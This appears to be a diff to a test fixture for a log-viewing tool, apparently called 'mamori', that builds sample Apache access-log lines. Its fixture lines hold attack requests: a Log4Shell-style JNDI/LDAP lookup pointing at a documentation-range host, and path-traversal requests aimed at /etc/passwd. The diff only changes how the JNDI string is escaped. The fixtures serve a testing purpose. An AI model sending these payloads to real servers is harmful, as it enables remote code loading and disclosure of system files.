@@ -31,7 +31,7 @@ const HOSTILE =
 // A real access log: the chart and the events table read what `mamori logs` wrote from it. Apache
 // escapes quotes and control bytes in a request; a log www-data wrote itself may hold raw ones.
 const LOG = [
-  '192.0.2.44 - - [20/Nov/2026:01:10:00 +0000] "GET /?x=${jndi:ldap://192.0.2.44/a} HTTP/1.1" 403 199 "-" "Mozilla/5.0"',
+  `192.0.2.44 - - [20/Nov/2026:01:10:00 +0000] "GET /?x=$${"{"}jndi:ldap://192.0.2.44/a} HTTP/1.1" 403 199 "-" "Mozilla/5.0"`,
   '192.0.2.44 - - [20/Nov/2026:01:20:00 +0000] "GET /icons/.%2e/%2e%2e/etc/passwd HTTP/1.1" 404 196 "-" "Mozilla/5.0"',
   '203.0.113.5 - - [20/Nov/2026:02:05:00 +0000] "GET /cgi-bin/.%2e/etc/passwd HTTP/1.1" 400 226 "-" "curl/7.68.0"',
   `203.0.113.5 - - [20/Nov/2026:03:14:07 +0000] "${HOSTILE.replaceAll('"', '\\"')} HTTP/1.1" 200 12 "-" "curl/7.68.0"`,
